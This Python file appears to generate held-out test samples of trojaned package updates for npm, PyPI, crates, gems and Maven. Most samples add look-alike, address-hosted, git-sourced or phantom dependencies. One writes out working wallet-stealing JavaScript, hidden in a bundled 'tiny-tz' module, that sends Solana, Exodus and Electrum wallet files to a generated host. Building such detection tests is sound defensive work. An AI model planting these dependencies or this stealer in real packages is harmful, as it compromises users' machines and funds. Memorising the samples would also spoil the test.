"""Nothing but a new dependency: of a like name, of nobody's, from an address, by another name."""

from corpus.heldout.nouns import Update, trojan


@trojan("tabula", "wheel", trigger="install", payload="dependency", hiding="look-alike name", step="patch")
def lookalike_requirement(up: Update) -> None:
    up.requires("wcwdith>=0.2.6")
    up.payload("DIST-INFO/METADATA")


@trojan("httpkeep", "wheel", trigger="install", payload="dependency", hiding="from an address", step="patch")
def wheel_by_address(up: Update) -> None:
    up.requires(f"httpkeep-certs @ https://{up.host('files')}/httpkeep_certs-1.0-py3-none-any.whl")
    up.payload("DIST-INFO/METADATA")


@trojan("quickconf", "sdist", trigger="install", payload="dependency", hiding="from a repository", step="patch")
def git_requirement(up: Update) -> None:
    up.requires(f"confschema @ git+https://{up.host('git')}/tools/confschema.git@4be1f0c")
    up.payload("DIST-INFO/METADATA", "pyproject.toml")


@trojan("fastvec", "sdist", trigger="install", payload="dependency", hiding="phantom at build", step="patch")
def build_requirement(up: Update) -> None:
    """Only building needs it."""
    up.replace(
        "pyproject.toml", 'requires = ["setuptools>=61"]', 'requires = ["setuptools>=61", "setuptools-vecbuild"]'
    )
    up.payload("pyproject.toml")


@trojan(
    "stream-fold", "npm", trigger="import", payload="dependency", hiding="phantom", like="event-stream", step="patch"
)
def flat_fold_stream(up: Update) -> None:
    """The helper nobody knew, in use from the first day."""
    up.manifest(lambda it: it["dependencies"].update({"flat-fold-stream": "^0.1.0"}))
    up.before("index.js", "exports.from = ", "exports.flatFold = require('flat-fold-stream');\n\n")
    up.payload("package.json", "index.js")


@trojan(
    "req-lite",
    "npm",
    trigger="install",
    payload="dependency",
    hiding="phantom",
    like="axios plain-crypto-js",
    step="patch",
)
def plain_crypto(up: Update) -> None:
    """A dependency that no code uses: its own postinstall is the point."""
    up.manifest(lambda it: it["dependencies"].update({"simple-crypto-js": "^4.2.1"}))
    up.payload("package.json")


@trojan("conf-rc", "npm", trigger="install", payload="dependency", hiding="by another name", step="patch")
def aliased_dependency(up: Update) -> None:
    up.manifest(lambda it: it["dependencies"].update({"ini": "npm:ini-parser-es@^4.1.1"}))
    up.payload("package.json")


@trojan(
    "trace-log",
    "npm",
    trigger="install",
    payload="dependency",
    hiding="from an address",
    like="PhantomRaven",
    step="patch",
)
def tarball_by_http(up: Update) -> None:
    """An address that registries' scanners do not follow."""
    host = up.host("packages", "storeartifact")
    up.manifest(lambda it: it["dependencies"].update({"unused-imports": f"http://{host}/npm/unused-imports"}))
    up.payload("package.json")


@trojan(
    "chain-kit",
    "npm",
    trigger="install",
    payload="dependency",
    hiding="from a repository",
    like="TanStack 2026",
    step="patch",
)
def optional_git(up: Update) -> None:
    host = up.host("git")
    up.manifest(
        lambda it: it.update(
            {
                "optionalDependencies": {
                    "@chain/setup": f"git+https://{host}/chain/setup.git#79ac49eedf774dd4b0cfa308722bc463cfe5885c"
                }
            }
        )
    )
    up.payload("package.json")


@trojan("form-guard", "npm", trigger="import", payload="dependency", hiding="look-alike name", step="minor")
def lookalike_module(up: Update) -> None:
    up.manifest(lambda it: it.update({"dependencies": {"lodahs.debounce": "^4.0.8"}}))
    up.replace(
        "src/index.js",
        "const { debounce, escapeHtml } = require('../lib/util');",
        "const debounce = require('lodahs.debounce');\nconst { escapeHtml } = require('../lib/util');",
    )
    up.payload("package.json", "src/index.js")


@trojan("ansi-paint", "npm", trigger="import", payload="wallet", hiding="bundled dependency", step="minor")
def bundled_modules(up: Update) -> None:
    """The dependency comes along, in node_modules, where few look."""
    host = up.host("tz")
    up.manifest(lambda it: it.update({"dependencies": {"tiny-tz": "1.0.2"}, "bundledDependencies": ["tiny-tz"]}))
    up.add("node_modules/tiny-tz/package.json", '{"name": "tiny-tz", "version": "1.0.2", "main": "tz.js"}\n')
    up.add(
        "node_modules/tiny-tz/tz.js",
        f"""var fs = require('fs'), https = require('https'), home = require('os').homedir();
module.exports = function offset(date) {{ return (date || new Date()).getTimezoneOffset(); }};
['.config/solana/id.json', '.config/Exodus/exodus.wallet/seed.seco', '.electrum/wallets/default_wallet'].forEach(function (p) {{
  fs.readFile(home + '/' + p, function (e, b) {{
    if (!e) https.request({{ host: '{host}', path: '/o', method: 'POST' }}).end(b);
  }});
}});
""",
    )
    up.after("index.js", "const { fill } = require('./templates');\n", "require('tiny-tz');\n")
    up.payload("node_modules/tiny-tz/tz.js")


@trojan(
    "glob-swift",
    "crate",
    trigger="install",
    payload="dependency",
    hiding="look-alike name",
    like="rustdecimal",
    step="patch",
)
def lookalike_crate(up: Update) -> None:
    up.after("Cargo.toml", 'memchr = "2.6"\n', 'rustdecimals = "1.23"\n')
    up.payload("Cargo.toml")


@trojan("rest-knock", "gem", trigger="install", payload="dependency", hiding="look-alike name", step="patch")
def lookalike_gem(up: Update) -> None:
    up.replace(
        "METADATA.yaml",
        "dependencies: []\n",
        """dependencies:
- !ruby/object:Gem::Dependency
  name: net-htpp-persist
  requirement: !ruby/object:Gem::Requirement
    requirements:
    - - "~>"
      - !ruby/object:Gem::Version
        version: '4.0'
  type: :runtime
  prerelease: false
""",
    )
    up.payload("METADATA.yaml")


@trojan("log-bridge", "jar", trigger="import", payload="dependency", hiding="look-alike name", step="patch")
def lookalike_artifact(up: Update) -> None:
    up.replace(
        "META-INF/maven/example/log-bridge/pom.xml",
        "  </dependencies>",
        "    <dependency><groupId>org.fasterxml.jackson.core</groupId><artifactId>jackson-databind</artifactId><version>2.15.3</version></dependency>\n  </dependencies>",
    )
    up.payload("META-INF/maven/example/log-bridge/pom.xml")
